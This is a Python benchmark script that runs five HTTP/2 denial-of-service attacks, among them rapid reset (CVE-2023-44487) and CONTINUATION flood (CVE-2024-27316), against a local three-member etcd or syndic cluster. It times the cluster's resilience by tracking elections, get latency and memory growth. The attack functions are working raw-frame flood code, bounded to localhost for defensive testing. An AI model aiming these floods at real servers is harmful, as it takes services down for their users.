"""Hostile HTTP/2 clients against one member of a 3-member cluster, syndic and etcd side by side.

Five attacks, each aimed for ``--duration-s`` (15 s by default) at the
cluster's leader (the member whose stall would cost an election):

* ``settings_flood``: thousands of streams opened and left open, then
  SETTINGS frames moving INITIAL_WINDOW_SIZE up and down without pause;
* ``slow_read``: a 1 MiB value asked for on hundreds of streams by clients
  that set a zero window and never give any back;
* ``continuation_flood``: a header block that never ends, CONTINUATION
  after CONTINUATION (CVE-2024-27316's shape);
* ``partial_requests``: hundreds of connections, opened over the first
  quarter of the attack, each sending most of a 1 MiB Put and then nothing;
* ``rapid_reset``: calls opened and reset at once, as fast as the socket
  takes them (CVE-2023-44487).

While each attack runs, ``etcdctl get`` is sent to the attacked member every
half second and timed (from a process of its own, so the attacker's busy
loop does not delay the timing), its resident memory is sampled, and the Raft term
is read before and after from ``etcdctl endpoint status``. Each run also
records syndic's loop lag over the attack (its metric) and the attacker's own
stalls, and prints a line as it ends. An attack is
survived when the term is unchanged (no election), every ``get`` answers
within 1 s and RSS grows by less than 64 MiB. A member that closes the
attacker's connection is not thereby beaten: the attacker reconnects, up to
a bound.

Attack traffic goes only to 127.0.0.1, bounded in connections, frames and
time. Medians of ``--repeats`` runs; prints a table, writes
bench/results/hostile.json. ``--quick`` runs 4 s attacks once.
"""

from __future__ import annotations

import argparse
import asyncio
import concurrent.futures
import contextlib
import json
import multiprocessing
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

import hpack  # noqa: E402
from bench._h2load import process_cpu_s  # noqa: E402
from tests.server.processes import (  # noqa: E402
    ETCD,
    ETCDCTL,
    MemberProcess,
    etcdctl,
    start_cluster,
    wait_healthy,
)

from syndic.api.gen import rpc_pb2  # noqa: E402
from syndic.server.h2 import frames  # noqa: E402
from syndic.server.h2.frames import ErrorCode, Flag, FrameType, Setting  # noqa: E402

RESULTS = ROOT / "bench" / "results" / "hostile.json"
ETCD_DEFAULT_TIMERS = {"heartbeat_interval_ms": 100, "election_timeout_ms": 1000}
BIG_KEY = b"hostile-big"
BIG_VALUE_BYTES = 1024 * 1024
PROBE_KEY = b"hostile-probe"
PROBE_INTERVAL_S = 0.5
RSS_INTERVAL_S = 0.2
# What "survived" means (issue 12's acceptance).
GET_LATENCY_S_MAX = 1.0
RSS_GROWTH_MIB_MAX = 64.0
# Bounds on the attacker itself, whatever the member does.
RECONNECTS_MAX = 200
WRITE_WAIT_S = 1.0  # a write the member does not take within this is left pending
KV_RANGE = "/etcdserverpb.KV/Range"
PROBE_LOG: list[tuple[float, float, bool]] = []  # (started, seconds, answered), for diagnosis
KV_PUT = "/etcdserverpb.KV/Put"


@dataclass(frozen=True, slots=True)
class Scale:
    """How hard each attack pushes; ``full`` is the issue's, ``test`` a bounded one."""

    duration_s: float
    open_streams: int  # settings_flood
    slow_connections: int  # slow_read
    slow_streams: int  # slow_read, per connection
    partial_connections: int  # partial_requests
    partial_bytes: int  # partial_requests, per connection
    flood_connections: int  # continuation_flood, rapid_reset


FULL = Scale(15.0, 4000, 8, 200, 300, 900_000, 4)
QUICK = Scale(4.0, 2000, 4, 100, 200, 900_000, 2)
TEST = Scale(3.0, 1000, 2, 50, 100, 600_000, 2)


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


class Attacker:
    """One raw HTTP/2 connection that writes what it is told and discards what it reads."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.encoder = hpack.Encoder()
        self.next_id = 1
        self.goaway: int | None = None
        self.closed = False
        self._drain_task: asyncio.Task[None] | None = None

    @classmethod
    async def open(cls, port: int, *, read: bool = True, window: int | None = None) -> Attacker:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        attacker = cls(reader, writer)
        settings = {} if window is None else {Setting.INITIAL_WINDOW_SIZE: window}
        writer.write(frames.PREFACE + frames.settings_frame(settings))
        if read:
            attacker._drain_task = asyncio.get_running_loop().create_task(attacker._read())
        return attacker

    async def _read(self) -> None:
        """Read and drop everything, noting GOAWAY. SETTINGS are not acknowledged:
        an ACK would cut a CONTINUATION flood short, and neither server waits for one."""
        buffer = b""
        try:
            while True:
                chunk = await self.reader.read(65536)
                if not chunk:
                    break
                buffer += chunk
                while len(buffer) >= 9:
                    length, kind, _, _ = frames.parse_header(buffer, 0)
                    if len(buffer) < 9 + length:
                        break
                    if kind == FrameType.GOAWAY:
                        self.goaway = int.from_bytes(buffer[13:17], "big")
                    buffer = buffer[9 + length :]
        except (ConnectionError, OSError):
            pass
        self.closed = True

    def stream_id(self) -> int:
        stream_id = self.next_id
        self.next_id += 2
        return stream_id

    def headers(
        self, stream_id: int, path: str, *, end_stream: bool, end_headers: bool = True
    ) -> bytes:
        block = self.encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", "127.0.0.1"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            ]
        )
        flags = (Flag.END_HEADERS if end_headers else 0) | (Flag.END_STREAM if end_stream else 0)
        return frames.frame(FrameType.HEADERS, flags, stream_id, block)

    def call(self, path: str, request: bytes, *, end_stream: bool = True) -> bytes:
        stream_id = self.stream_id()
        body = frames.frame(
            FrameType.DATA, Flag.END_STREAM if end_stream else 0, stream_id, grpc_message(request)
        )
        return self.headers(stream_id, path, end_stream=False) + body

    async def send(self, data: bytes) -> bool:
        """Write; False once the member has closed us or stopped taking bytes."""
        if self.closed or self.writer.is_closing():
            return False
        try:
            self.writer.write(data)
            await asyncio.wait_for(self.writer.drain(), WRITE_WAIT_S)
        except (ConnectionError, OSError, TimeoutError):
            return False
        return True

    async def close(self) -> None:
        if self._drain_task is not None:
            self._drain_task.cancel()
        self.writer.close()
        with contextlib.suppress(Exception):
            await asyncio.wait_for(self.writer.wait_closed(), 1.0)


@dataclass
class Tally:
    """What the attacker managed: connections opened and frames written."""

    connections: int = 0
    frames: int = 0
    goaway_codes: dict[str, int] = field(default_factory=dict)

    def note_close(self, attacker: Attacker) -> None:
        if attacker.goaway is not None:
            name = ErrorCode(attacker.goaway).name
            self.goaway_codes[name] = self.goaway_codes.get(name, 0) + 1


async def _reconnecting(
    port: int,
    until: float,
    tally: Tally,
    work: Callable[[Attacker], Awaitable[None]],
    **open_args: Any,
) -> None:
    """Run ``work`` on a fresh connection each time the member closes the last one."""
    while time.monotonic() < until and tally.connections < RECONNECTS_MAX:
        try:
            attacker = await Attacker.open(port, **open_args)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        tally.connections += 1
        try:
            await work(attacker)
        finally:
            tally.note_close(attacker)
            await attacker.close()
        await asyncio.sleep(0.01)


async def settings_flood(port: int, scale: Scale, until: float, tally: Tally) -> None:
    async def work(attacker: Attacker) -> None:
        opened = b"".join(
            attacker.headers(attacker.stream_id(), KV_RANGE, end_stream=False)
            for _ in range(scale.open_streams)
        )
        tally.frames += scale.open_streams
        if not await attacker.send(opened):
            return
        values = (0, 65_535, 1, 2**20)
        batch = b"".join(
            frames.settings_frame({Setting.INITIAL_WINDOW_SIZE: values[i % 4]}) for i in range(200)
        )
        while time.monotonic() < until and await attacker.send(batch):
            tally.frames += 200

    await _reconnecting(port, until, tally, work)


async def slow_read(
    port: int, scale: Scale, until: float, tally: Tally, call: tuple[str, bytes] | None = None
) -> None:
    """``call`` (path, request) is the call whose large answer is never read:
    a serializable Range of the 1 MiB value unless told otherwise."""
    path, request = call or (
        KV_RANGE,
        rpc_pb2.RangeRequest(key=BIG_KEY, serializable=True).SerializeToString(),
    )

    async def one(attacker: Attacker) -> None:
        sent = 0
        while time.monotonic() < until and sent < scale.slow_streams * 4:
            batch = b"".join(attacker.call(path, request) for _ in range(scale.slow_streams // 4))
            if not await attacker.send(batch):
                return
            sent += scale.slow_streams // 4
            tally.frames += 2 * (scale.slow_streams // 4)
            await asyncio.sleep(0.5)
        while time.monotonic() < until and not attacker.closed:
            await asyncio.sleep(0.1)

    await asyncio.gather(
        *(_reconnecting(port, until, tally, one, window=0) for _ in range(scale.slow_connections))
    )


async def continuation_flood(port: int, scale: Scale, until: float, tally: Tally) -> None:
    async def work(attacker: Attacker) -> None:
        stream_id = attacker.stream_id()
        start = attacker.headers(stream_id, KV_RANGE, end_stream=True, end_headers=False)
        # Each fragment a whole literal header, so HPACK state stays valid.
        fragment = hpack.Encoder().encode([("x-hostile", "a" * 16)])
        batch = frames.frame(FrameType.CONTINUATION, 0, stream_id, fragment) * 500
        if not await attacker.send(start):
            return
        while time.monotonic() < until and await attacker.send(batch):
            tally.frames += 500

    await asyncio.gather(
        *(_reconnecting(port, until, tally, work) for _ in range(scale.flood_connections))
    )


async def partial_requests(port: int, scale: Scale, until: float, tally: Tally) -> None:
    declared = 1024 * 1024
    prefix = b"\x00" + declared.to_bytes(4, "big")

    async def hold(attacker: Attacker) -> None:
        stream_id = attacker.stream_id()
        body = prefix + bytes(scale.partial_bytes)
        data = attacker.headers(stream_id, KV_PUT, end_stream=False) + b"".join(
            frames.frame(FrameType.DATA, 0, stream_id, body[i : i + 16_384])
            for i in range(0, len(body), 16_384)
        )
        tally.frames += 1 + len(body) // 16_384
        await attacker.send(data)
        while time.monotonic() < until and not attacker.closed:
            await asyncio.sleep(0.2)

    async def one(delay_s: float) -> None:
        await asyncio.sleep(delay_s)
        if time.monotonic() >= until:
            return
        try:
            attacker = await Attacker.open(port)
        except OSError:
            return
        tally.connections += 1
        try:
            await hold(attacker)
        finally:
            tally.note_close(attacker)
            await attacker.close()

    # The connections are opened over the first quarter of the attack: what is
    # measured is memory held by partial requests, not a connect storm.
    spread_s = scale.duration_s / 4 / scale.partial_connections
    await asyncio.gather(*(one(i * spread_s) for i in range(scale.partial_connections)))


async def rapid_reset(port: int, scale: Scale, until: float, tally: Tally) -> None:
    request = rpc_pb2.RangeRequest(key=PROBE_KEY, serializable=True).SerializeToString()
    cancel = ErrorCode.CANCEL.to_bytes(4, "big")

    async def work(attacker: Attacker) -> None:
        while time.monotonic() < until:
            batch = []
            for _ in range(100):
                stream_id = attacker.next_id
                batch.append(attacker.call(KV_RANGE, request))
                batch.append(frames.frame(FrameType.RST_STREAM, 0, stream_id, cancel))
            if not await attacker.send(b"".join(batch)):
                return
            tally.frames += 300

    await asyncio.gather(
        *(_reconnecting(port, until, tally, work) for _ in range(scale.flood_connections))
    )


ATTACKS: dict[str, Callable[[int, Scale, float, Tally], Awaitable[None]]] = {
    "settings_flood": settings_flood,
    "slow_read": slow_read,
    "continuation_flood": continuation_flood,
    "partial_requests": partial_requests,
    "rapid_reset": rapid_reset,
}


# -- what the member does meanwhile ------------------------------------------------


def rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


LOOP_LAG_METRIC = "syndic_event_loop_lag_seconds"


def loop_lag_buckets(member: MemberProcess) -> dict[float, float] | None:
    """The member's loop-lag histogram (cumulative count per bucket bound), or
    None where there is none (etcd): it tells a stalled member from a get
    that waited elsewhere."""
    url = f"http://127.0.0.1:{member.admin_port}/metrics"
    try:
        with urllib.request.urlopen(url, timeout=5) as response:
            text = response.read().decode()
    except OSError:
        return None
    buckets: dict[float, float] = {}
    prefix = f'{LOOP_LAG_METRIC}_bucket{{le="'
    for line in text.splitlines():
        if line.startswith(prefix):
            bound, _, count = line[len(prefix) :].partition('"} ')
            buckets[float(bound)] = float(count)
    return buckets or None


def loop_lag_during(
    before: dict[float, float] | None, after: dict[float, float] | None
) -> dict[str, Any] | None:
    """The worst lag seen between two readings (a bucket's upper bound, in ms)
    and how many probes ran over 51.2 ms late (the bucket below 100 ms)."""
    if before is None or after is None:
        return None
    seen = {bound: after[bound] - before.get(bound, 0.0) for bound in after}
    total = seen.get(float("inf"), 0.0)
    worst = min((bound for bound, count in seen.items() if count >= total), default=0.0)
    late = total - seen.get(0.0512, 0.0)
    return {"probes": total, "worst_ms_bound": worst * 1000, "probes_over_51ms": late}


def raft_terms(members: list[MemberProcess]) -> dict[str, Any]:
    """Each member's Raft term and the leader it reports (etcdctl endpoint status)."""
    endpoints = ",".join(m.endpoint for m in members)
    out = etcdctl(endpoints, "endpoint", "status", "--write-out=json")
    if out.returncode != 0:
        raise RuntimeError(f"endpoint status failed: {out.stderr[-500:]}")
    status = json.loads(out.stdout)
    return {
        "terms": sorted(s["Status"]["header"]["raft_term"] for s in status),
        "leader": status[0]["Status"].get("leader", 0),
        "leader_endpoint": next(
            s["Endpoint"]
            for s in status
            if s["Status"].get("leader", 0) == s["Status"]["header"]["member_id"]
        ),
    }


def raft_terms_eventually(members: list[MemberProcess]) -> dict[str, Any] | None:
    """raft_terms, retried for a while: a member still digesting an attack may
    answer late. None if it never does (counted as not having held its term)."""
    deadline = time.monotonic() + 15.0
    while time.monotonic() < deadline:
        try:
            return raft_terms(members)
        except (RuntimeError, ValueError, KeyError, StopIteration):
            time.sleep(1.0)
    return None


Probe = tuple[float, float, bool]  # (started, seconds, answered)


def probe_gets(endpoint: str, until: float) -> list[Probe]:
    """``etcdctl get`` on the attacked member every PROBE_INTERVAL_S until ``until``
    (time.monotonic, the same clock in every process)."""
    probes: list[Probe] = []
    while time.monotonic() < until:
        started = time.monotonic()
        try:
            out = subprocess.run(
                [
                    ETCDCTL or "etcdctl",
                    f"--endpoints={endpoint}",
                    "--command-timeout=5s",
                    "get",
                    PROBE_KEY.decode(),
                ],
                capture_output=True,
                env={"ETCDCTL_API": "3", "PATH": "/usr/bin:/bin"},
                timeout=10,
                check=False,
            )
            ok = out.returncode == 0 and b"probe-value" in out.stdout
        except subprocess.TimeoutExpired:
            ok = False
        elapsed = time.monotonic() - started
        probes.append((started, elapsed, ok))
        time.sleep(max(0.0, PROBE_INTERVAL_S - elapsed))
    return probes


async def probe_gets_apart(
    prober: concurrent.futures.Executor, endpoint: str, until: float
) -> list[Probe]:
    """probe_gets in a process of its own. Not on the attacker's loop, which
    writes hundreds of megabytes at times (a get timed there counted the
    attacker's stalls, up to 0.9 s, as the member's), nor in a thread of the
    attacker's process, which waits for its interpreter lock."""
    loop = asyncio.get_running_loop()
    probes = await loop.run_in_executor(prober, probe_gets, endpoint, until)
    PROBE_LOG.extend(probes)
    return probes


def latencies_of(probes: list[Probe]) -> list[float | None]:
    """Seconds per get, None for one that failed."""
    return [elapsed if ok else None for _, elapsed, ok in probes]


async def attacker_lag(until: float, interval_s: float = 0.05) -> list[tuple[float, float]]:
    """The attacker's own loop: (when, seconds late) of each wake-up 100 ms late or more."""
    late: list[tuple[float, float]] = []
    while time.monotonic() < until:
        due = time.monotonic() + interval_s
        await asyncio.sleep(interval_s)
        lag_s = time.monotonic() - due
        if lag_s >= 0.1:
            late.append((due, lag_s))
    return late


async def sample_rss(pid: int, until: float) -> float:
    peak = rss_mib(pid)
    while time.monotonic() < until:
        await asyncio.sleep(RSS_INTERVAL_S)
        with contextlib.suppress(OSError):
            peak = max(peak, rss_mib(pid))
    return peak


async def attack_once(
    name: str, members: list[MemberProcess], target: MemberProcess, scale: Scale
) -> dict[str, Any]:
    assert target.process is not None
    before = raft_terms(members)
    with concurrent.futures.ProcessPoolExecutor(1, multiprocessing.get_context("spawn")) as prober:
        idle_gets = await probe_gets_apart(prober, target.endpoint, time.monotonic() + 2.0)
        idle = [x for x in latencies_of(idle_gets) if x is not None]
        lag_before = loop_lag_buckets(target)
        rss_before = rss_mib(target.process.pid)
        cpu_before = process_cpu_s(target.process.pid)
        started = time.monotonic()
        until = started + scale.duration_s
        tally = Tally()
        attack = asyncio.create_task(ATTACKS[name](target.client_port, scale, until, tally))
        probes, rss_peak, attacker_late = await asyncio.gather(
            probe_gets_apart(prober, target.endpoint, until),
            sample_rss(target.process.pid, until),
            attacker_lag(until),
        )
    latencies = latencies_of(probes)
    with contextlib.suppress(TimeoutError):  # the attacker's bound, not the member's
        await asyncio.wait_for(attack, 10.0)
    lag_after = loop_lag_buckets(target)
    cpu_used_s = process_cpu_s(target.process.pid) - cpu_before
    await asyncio.sleep(0.5)  # let the member notice the attacker is gone
    after = await asyncio.to_thread(raft_terms_eventually, members)
    answered = [latency for latency in latencies if latency is not None]
    get_ms_max = max(answered) * 1000 if answered else float("inf")
    result = {
        "term_held": after is not None
        and before["terms"] == after["terms"]
        and before["leader"] == after["leader"],
        "status_after": "answered" if after is not None else "no answer within 15 s",
        "get_ms_max": get_ms_max,
        "get_ms_median": statistics.median(answered) * 1000 if answered else float("inf"),
        "get_ms_median_unattacked": statistics.median(idle) * 1000 if idle else float("inf"),
        "gets_failed": len(latencies) - len(answered),
        "gets": len(latencies),
        "rss_growth_mib": rss_peak - rss_before,
        "attacker": asdict(tally),
        "loop_lag": loop_lag_during(lag_before, lag_after),
        # The attacked member's CPU over the attack, in seconds.
        "cpu_s": cpu_used_s,
        # When the slow gets began (seconds into the attack) and took (ms).
        "slow_gets": [
            (round(at - started, 1), round(seconds * 1000))
            for at, seconds, _ in probes
            if seconds > GET_LATENCY_S_MAX / 2
        ],
        # The attacker's own stalls (s into the attack, ms), which a get
        # timed on its loop would have counted.
        "attacker_stalls": [
            (round(at - started, 1), round(lag_s * 1000)) for at, lag_s in attacker_late
        ],
        "load_average_1m": os.getloadavg()[0],
    }
    result["survived"] = (
        result["term_held"]
        and result["gets_failed"] == 0
        and get_ms_max <= GET_LATENCY_S_MAX * 1000
        and result["rss_growth_mib"] < RSS_GROWTH_MIB_MAX
    )
    return result


def prepare(members: list[MemberProcess]) -> MemberProcess:
    """Store the probe key and the 1 MiB value; returns the leader, the one attacked."""
    endpoints = ",".join(m.endpoint for m in members)
    for key, value in ((PROBE_KEY, b"probe-value"), (BIG_KEY, b"b" * BIG_VALUE_BYTES)):
        out = etcdctl(endpoints, "put", key.decode(), input_text=value.decode())
        if out.returncode != 0:
            # etcdctl put reads the value from stdin when it is not an argument.
            raise RuntimeError(f"put {key!r} failed: {out.stderr[-500:]}")
    leader = raft_terms(members)["leader_endpoint"]
    return next(m for m in members if leader.endswith(m.endpoint))


CLUSTER_STARTS_MAX = 3  # a cluster that does not come up is started again, on fresh ports


def healthy_cluster(kind: str) -> list[MemberProcess]:
    """A fresh 3-member cluster, healthy. A start that fails before any attack
    (a free port taken meanwhile by another process) is retried, not counted."""
    for attempt in range(1, CLUSTER_STARTS_MAX + 1):
        root = Path(tempfile.mkdtemp(prefix=f"hostile-{kind}-"))
        members = start_cluster(kind, root, 3, **ETCD_DEFAULT_TIMERS)
        try:
            wait_healthy(members)
            return members
        except AssertionError as exc:
            for member in members:
                member.kill()
            shutil.rmtree(root, ignore_errors=True)
            if attempt == CLUSTER_STARTS_MAX:
                raise
            print(f"{kind}: cluster did not start ({exc!s:.200}); again", file=sys.stderr)
    raise AssertionError("unreachable")


def run_system(kind: str, names: list[str], scale: Scale) -> dict[str, Any]:
    """A fresh 3-member cluster per attack, so no attack inherits another's damage."""
    results: dict[str, Any] = {}
    for name in names:
        members = healthy_cluster(kind)
        try:
            target = prepare(members)
            results[name] = asyncio.run(attack_once(name, members, target, scale))
            print(f"{kind} {name}: {one_line(results[name])}", file=sys.stderr, flush=True)
        finally:
            for member in members:
                member.kill()
            # Every member's data and log live in the cluster's one directory.
            shutil.rmtree(members[0].data_dir.parent, ignore_errors=True)
    return results


def one_line(result: dict[str, Any]) -> str:
    """A run's figures on one line, printed as each attack ends."""
    lag = result["loop_lag"]
    lag_text = "" if lag is None else f" loop lag <= {lag['worst_ms_bound']:.0f} ms"
    return (
        f"survived={result['survived']} term_held={result['term_held']} "
        f"get max {result['get_ms_max']:.0f} ms median {result['get_ms_median']:.0f} ms "
        f"failed {result['gets_failed']}/{result['gets']} "
        f"rss +{result['rss_growth_mib']:.1f} MiB cpu {result['cpu_s']:.1f} s{lag_text} "
        f"load {result['load_average_1m']:.1f} goaway {result['attacker']['goaway_codes']} "
        f"slow gets (s, ms) {result['slow_gets']} attacker stalls {result['attacker_stalls']}"
    )


def median_result(runs: list[dict[str, Any]]) -> dict[str, Any]:
    """Per attack: medians of the figures; survived/term_held only if every run did."""
    merged: dict[str, Any] = {}
    for name in runs[0]:
        rows = [run[name] for run in runs]
        merged[name] = {
            "survived": all(r["survived"] for r in rows),
            # Which runs failed, and on what: a median hides a single spike.
            "survived_runs": sum(bool(r["survived"]) for r in rows),
            "runs": len(rows),
            "get_ms_max_each": [r["get_ms_max"] for r in rows],
            "gets_failed_each": [r["gets_failed"] for r in rows],
            "term_held_each": [r["term_held"] for r in rows],
            "rss_growth_mib_each": [r["rss_growth_mib"] for r in rows],
            "cpu_s_each": [r["cpu_s"] for r in rows],
            "loop_lag_each": [r.get("loop_lag") for r in rows],
            "load_average_1m_each": [r.get("load_average_1m") for r in rows],
            "term_held": all(r["term_held"] for r in rows),
            "get_ms_max": statistics.median(r["get_ms_max"] for r in rows),
            "get_ms_median": statistics.median(r["get_ms_median"] for r in rows),
            "get_ms_median_unattacked": statistics.median(
                r["get_ms_median_unattacked"] for r in rows
            ),
            "gets_failed": statistics.median(r["gets_failed"] for r in rows),
            "rss_growth_mib": statistics.median(r["rss_growth_mib"] for r in rows),
            "cpu_s": statistics.median(r["cpu_s"] for r in rows),
            "attacker": rows[-1]["attacker"],
        }
    return merged


def print_table(results: dict[str, Any]) -> None:
    etcd, syndic = results["etcd"], results["syndic"]
    print(f"{'attack':20} {'figure':22} {'etcd':>10} {'syndic':>10} {'syndic/etcd':>11}")
    for name in syndic:
        for metric in (
            "get_ms_median_unattacked",
            "get_ms_median",
            "get_ms_max",
            "gets_failed",
            "rss_growth_mib",
            "cpu_s",
        ):
            e, s = float(etcd[name][metric]), float(syndic[name][metric])
            ratio = s / e if e else float("nan")
            print(f"{name:20} {metric:22} {e:>10.1f} {s:>10.1f} {ratio:>11.2f}")
        for flag in ("term_held", "survived"):
            e_flag, s_flag = etcd[name][flag], syndic[name][flag]
            print(f"{name:20} {flag:22} {e_flag!s:>10} {s_flag!s:>10} {'':>11}")
        runs = [
            f"{r[name].get('survived_runs', '?')}/{r[name].get('runs', '?')}"
            for r in (etcd, syndic)
        ]
        print(f"{name:20} {'runs survived':22} {runs[0]:>10} {runs[1]:>10} {'':>11}")
    print_runs(results)


def print_runs(results: dict[str, Any]) -> None:
    """Each run's worst get, failed gets, term and RSS growth: a median hides a spike."""
    head = f"{'worst get ms':>12} {'failed':>6} {'term':>5} {'RSS MiB':>8} {'CPU s':>6}"
    print(f"\n{'attack':20} {'system':7} run  {head}")
    for name in results["syndic"]:
        for kind in ("etcd", "syndic"):
            merged = results.get(kind, {}).get(name)
            if merged is None or "term_held_each" not in merged:
                continue
            for run, (get_ms, failed, term_held, rss, cpu) in enumerate(
                zip(
                    merged["get_ms_max_each"],
                    merged["gets_failed_each"],
                    merged["term_held_each"],
                    merged["rss_growth_mib_each"],
                    merged["cpu_s_each"],
                    strict=True,
                ),
                start=1,
            ):
                term = "held" if term_held else "LOST"
                figures = f"{get_ms:>12.0f} {failed:>6} {term:>5} {rss:>8.1f} {cpu:>6.1f}"
                print(f"{name:20} {kind:7} {run:>3}  {figures}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--quick", action="store_true", help="4 s attacks, one run")
    parser.add_argument("--repeats", type=int, default=3)
    parser.add_argument("--attacks", default=",".join(ATTACKS), help="comma-separated")
    parser.add_argument("--systems", default="etcd,syndic", help="comma-separated")
    parser.add_argument("--out", type=Path, default=RESULTS, help="where the JSON goes")
    args = parser.parse_args()
    scale = QUICK if args.quick else FULL
    repeats = 1 if args.quick else args.repeats
    names = [n for n in args.attacks.split(",") if n]
    unknown = set(names) - set(ATTACKS)
    if unknown:
        sys.exit(f"unknown attacks: {sorted(unknown)}; known: {sorted(ATTACKS)}")
    systems = [s for s in args.systems.split(",") if s]
    if ETCDCTL is None or ("etcd" in systems and ETCD is None):
        sys.exit("bench/hostile.py needs Debian's etcd-server and etcd-client")
    results: dict[str, Any] = {"scale": asdict(scale), "repeats": repeats}
    for kind in systems:
        results[kind] = median_result([run_system(kind, names, scale) for _ in range(repeats)])
    if "etcd" in results and "syndic" in results:
        print_table(results)
    else:
        print(json.dumps(results, indent=2))
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(results, indent=2) + "\n")


if __name__ == "__main__":
    main()
